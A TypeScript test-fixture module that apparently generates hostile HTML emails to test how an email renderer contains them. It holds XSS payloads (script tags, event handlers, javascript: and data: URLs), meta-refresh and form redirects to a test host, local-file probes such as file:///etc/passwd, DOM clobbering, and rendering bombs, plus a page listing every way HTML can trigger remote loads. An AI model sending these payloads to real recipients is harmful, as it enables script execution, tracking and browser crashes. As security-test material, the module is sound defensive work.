/** Attacks in an email: whatever gets out reaches `host`, and any script that runs requests `/ran` from it. */
export function hostileMails(host: string): Record<string, string> {
  const run = `new Image().src='${host}/ran'`;
  const text = '<p>Dear customer</p>';
  return {
    'script tag': `${text}<script>${run}; location='${host}/left'</script>`,
    'remote script': `${text}<script src="${host}/ran"></script><script type="module" src="${host}/ran"></script>`,
    'image handler': `${text}<img src="x:" onerror="${run}"><img src="${host}/ok.png" onload="${run}">`,
    'body handler': `<body onload="${run}" onpageshow="${run}">${text}`,
    'svg handler': `${text}<svg onload="${run}"><script>${run}</script><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
    'focus handler': `${text}<input autofocus onfocus="${run}"><details open ontoggle="${run}">x</details>`,
    'animation handler': `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${run}">x</p>`,
    'scripted addresses': `${text}<iframe src="javascript:${run}"></iframe><img src="javascript:${run}"><a href="javascript:${run}">x</a>
      <form action="javascript:${run}"><input autofocus></form><object data="javascript:${run}"></object>`,
    'data document': `${text}<iframe src="data:text/html,<script>${run}</script>"></iframe><embed src="data:text/html,<script>${run}</script>">`,
    srcdoc: `${text}<iframe srcdoc="<script>${run}</script><img src='${host}/ok.png'><meta http-equiv=refresh content='0;url=${host}/left'>"></iframe>`,
    'refresh at once': `<meta http-equiv="refresh" content="0; url=${host}/left">${text}`,
    'refresh later': `<meta http-equiv="refresh" content="1; url=${host}/left">${text}`,
    'refresh to nothing': `<meta http-equiv="refresh" content="0; url=about:blank">${text}`,
    'refresh to itself': `<meta http-equiv="refresh" content="0">${text}`,
    'refresh disguised': `<!doctype html><MeTa content="0;URL='about:blank'" HTTP-EQUIV="&#82;efresh"><noscript><meta http-equiv=refresh content="0;url=about:blank"></noscript>
      <svg><foreignObject><meta http-equiv=refresh content="0;url=about:blank"></foreignObject></svg><math><mtext><table><mglyph><style><!--</style><meta http-equiv=refresh content="0;url=about:blank">-->${text}`,
    'refresh to a script': `<meta http-equiv="refresh" content="0; url=javascript:${run}">${text}`,
    'refresh to data': `<meta http-equiv="refresh" content="0; url=data:text/html,<script>${run}</script>">${text}`,
    'refresh to a file': `<meta http-equiv="refresh" content="0; url=file:///etc/passwd">${text}`,
    'own policy': `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'; report-uri ${host}/left">${text}<script>${run}</script>`,
    base: `<base href="${host}/left/" target="_top">${text}<img src="relative.png"><a href="x" autofocus>x</a>`,
    form: `${text}<form id=f method=post action="${host}/left" target=_top><input name=a value=b autofocus><input type=submit autofocus formaction="${host}/left"></form>`,
    frames: `<html><frameset cols="50%,50%"><frame src="${host}/left"><frame src="${host}/left"></frameset></html>`,
    embedded: `${text}<iframe src="${host}/left"></iframe><object data="${host}/left"></object><embed src="${host}/left"><applet code="${host}/left"></applet>
      <portal src="${host}/left"></portal><fencedframe src="${host}/left"></fencedframe><video src="${host}/left" autoplay></video><audio src="${host}/left" autoplay></audio>`,
    hints: `<link rel=prefetch href="${host}/left"><link rel=prerender href="${host}/left"><link rel=modulepreload href="${host}/left">
      <link rel=manifest href="${host}/left"><link rel=preload as=script href="${host}/left"><link rel=preload as=fetch href="${host}/left">
      <script type=speculationrules>{"prefetch":[{"urls":["${host}/left"]}]}</script>${text}`,
    popups: `${text}<a id=a href="${host}/left" target=_blank ping="${host}/left" autofocus accesskey=x>x</a><map name=m><area href="${host}/left" shape=default></map>`,
    files: `${text}<img src="file:///etc/passwd"><link rel=stylesheet href="file:///etc/passwd"><style>@import "file:///etc/passwd"; body{background:url(file:///etc/passwd)}</style>
      <img src="chrome://version"><img src="view-source:${host}/left"><img src="blob:null/x"><img src="filesystem:http://x/y">`,
    clobbering: `<form name=body><input name=querySelectorAll><input name=childNodes><img name=getElementsByTagName></form>
      <img name=querySelectorAll><img name=documentElement><form id=x name=fonts></form><img name=getAnimations><embed name=adoptedStyleSheets>
      <img name=body><a id=getComputedStyle></a><form name=createElement><input name=parentElement><input name=getAttribute></form>${text}`,
    'declared shadow': `<div><template shadowrootmode=open><script>${run}</script><meta http-equiv=refresh content="0;url=about:blank"><slot></slot></template>${text}</div>`,
    'hidden from the parser': `<!--><img src=x: onerror="${run}">--><plaintext><script>${run}</script><meta http-equiv=refresh content="0;url=about:blank">`,
    'nulls and odd letters': `<scr\u0000ipt>${run}</script>\u0000<p \u0000 onclick=x>\ufeff\u202e\ud800 text</p><svg/onload="${run}">`,
    'no end': `<div title="<p>Dear<!-- <style> p { color: red`,
    deep: `${'<div><table><tr><td>'.repeat(10_000)}deep`,
    'many elements': `${'<b>x</b> '.repeat(40_000)}`,
    'many images': Array.from({ length: 500 }, (_, at) => `<img src="${host}/many?${at}" width=1 height=1>`).join(''),
    'one long word': `<p>${'W'.repeat(900_000)}</p>`,
    'very wide': `<div style="width:9000000px;height:10px;background:red">x</div>`,
    'very tall': `<div style="height:33000000px;background:linear-gradient(red,blue)">x</div>`,
    'sized by the screen': `<style>html,body,div{height:1000vh;width:1000vw}</style><div><div><div style="height:100000vh">x</div></div></div>`,
    'everything fixed': `<style>*{position:fixed!important;inset:0;overflow:scroll}</style>${text.repeat(200)}`,
    'heavy filters': `<style>div{filter:blur(200px) drop-shadow(0 0 200px red);backdrop-filter:blur(200px);box-shadow:0 0 2000px red;padding:9px;transform:rotate3d(1,1,1,9deg);will-change:transform}</style>${'<div>'.repeat(60)}x`,
    'slow selectors': `<style>${' *:not(b):nth-last-child(odd)'.repeat(8)}{color:red}</style>${'<i><u>'.repeat(250)}${'<s>x</s>'.repeat(2_000)}`,
    'endless motion': `<style>@keyframes a{from{margin-left:0}to{margin-left:9999px;height:9999px}}*{animation:a 10ms infinite;transition:all 1s}</style>${text.repeat(100)}<marquee>${text}</marquee>`,
    'svg bomb': `<svg width=500 height=500><defs><g id=a0><circle r=5 /></g>${Array.from({ length: 14 }, (_, at) => `<g id=a${at + 1}>${`<use href="#a${at}"/>`.repeat(4)}</g>`).join('')}</defs><use href="#a14"/></svg>${text}`,
    'counters and content': `<style>b::before{content:${'"wwwwwwwwww" '.repeat(2_000)}}</style>${'<b></b>'.repeat(40)}${text}`,
    'never answering': `<link rel=stylesheet href="${host}/silent.css"><img src="${host}/silent.png"><style>@import url(${host}/silent2.css);</style>${text}`,
    'redirects in a circle': `${text}<img src="${host}/circle"><img src="${host}/to-origin">`,
    'address of the email': `${text}<img src="/"><img src="http://email.invalid/x"><link rel=stylesheet href="http://email.invalid/"><iframe src="http://email.invalid/"></iframe>`,
    'bombs for decoders': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='65000' height='65000'><script>${run.replaceAll("'", '%27')}</script><image href='${host}/ran'/><rect width='100%' height='100%' fill='red'/></svg>">${text}`,
  };
}

/**
 * Returns an email that tries every way to make its reader load something. Each is named by the path that it requests.
 */
export function fetchingMail(host: string): string {
  return `<!doctype html><html><head><title>fetches</title><base href="${host}/base/">
<link rel=dns-prefetch href="${host}"><link rel=preconnect href="${host}"><link rel=prefetch href="${host}/prefetch">
<link rel=prerender href="${host}/prerender"><link rel=preload as=image href="${host}/preload-image" imagesrcset="${host}/preload-set 2x">
<link rel=preload as=font crossorigin href="${host}/preload-font"><link rel=modulepreload href="${host}/modulepreload">
<link rel=stylesheet href="${host}/style"><link rel="alternate stylesheet" title=x href="${host}/alternate"><link rel=icon href="${host}/icon">
<link rel=apple-touch-icon href="${host}/touch"><link rel=manifest href="${host}/manifest"><link rel=compression-dictionary href="${host}/dictionary">
<meta http-equiv=refresh content="0;url=${host}/refresh"><meta property="og:image" content="${host}/og">
<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src 'none'; report-uri ${host}/report">
<style>@import url(${host}/import); @import "${host}/import-string" screen;
@font-face { font-family: x; src: url(${host}/font) } @font-face { font-family: y; src: url(${host}/font-range); unicode-range: U+78 }
body { font-family: x, y; background: url(${host}/background); cursor: url(${host}/cursor), auto }
ul { list-style-image: url(${host}/list) } #c::before { content: url(${host}/content) } #b { border: 9px solid; border-image: url(${host}/border) 9 }
#m { mask-image: url(${host}/mask); width: 9px; height: 9px } #f { filter: url(${host}/filter#x) } #s { float: left; width: 9px; height: 9px; shape-outside: url(${host}/shape) }
#i { background: image-set("${host}/image-set" 1x); width: 9px; height: 9px } #k { clip-path: url(${host}/clip#x) } p::first-letter { background: url(${host}/letter) }
#v { --a: url(${host}/variable); background: var(--a) } #r::after { content: ""; background: cross-fade(url(${host}/fade), red) }
@media (prefers-color-scheme: dark) { #d { background: url(${host}/dark) } }</style></head>
<body background="${host}/body-background">x<p id=c>c<p id=b>b<p id=m>m<p id=f>f<p id=s>s<p id=i>i<p id=k>k<p id=v>v<p id=r>r<p id=d>d<ul><li>x</ul>
<img src="${host}/img"><img srcset="${host}/srcset 2x"><img loading=lazy src="${host}/lazy"><img src="${host}/redirect"><img crossorigin src="${host}/cors">
<picture><source srcset="${host}/source"><img src="${host}/picture-img"></picture><img attributionsrc="${host}/attribution" src="${host}/attributed">
<img src=//${host.replace(/^https?:\/\//, '')}/scheme-relative><img src=relative><img lowsrc="${host}/lowsrc" dynsrc="${host}/dynsrc" longdesc="${host}/longdesc">
<table background="${host}/table"><tr><td background="${host}/cell">x</table><input type=image src="${host}/input"><body background="${host}/second-body">
<video poster="${host}/poster" src="${host}/video" autoplay><source src="${host}/video-source"><track default src="${host}/track"></video><audio autoplay src="${host}/audio"></audio><bgsound src="${host}/bgsound">
<iframe src="${host}/iframe"></iframe><iframe srcdoc="<img src='${host}/srcdoc'>"></iframe><object data="${host}/object"></object><embed src="${host}/embed"><frame src="${host}/frame"><applet archive="${host}/applet"></applet>
<svg width=20 height=20><image href="${host}/svg-image"/><image xlink:href="${host}/svg-xlink"/><use href="${host}/use#x"/><filter id=ff><feImage href="${host}/fe-image"/></filter><rect width=9 height=9 filter="url(#ff)" fill="url(${host}/paint#x)"/></svg>
<form action="${host}/form"><input autofocus><button formaction="${host}/formaction">x</button></form><a href="${host}/link" ping="${host}/ping" target=_top autofocus>x</a>
<script src="${host}/script"></script><script>fetch('${host}/fetch');navigator.sendBeacon('${host}/beacon')</script><img src=x: onerror="fetch('${host}/handler')">
<!--[if mso]><v:fill src="${host}/vml"/><![endif]--><math href="${host}/math"><mi>x</mi></math><div style="background:url('${host}/inline')">x</div>
<template><img src="${host}/template"></template><noscript><img src="${host}/noscript"></noscript><div><template shadowrootmode=open><img src="${host}/shadow"></template></div></body></html>`;
}
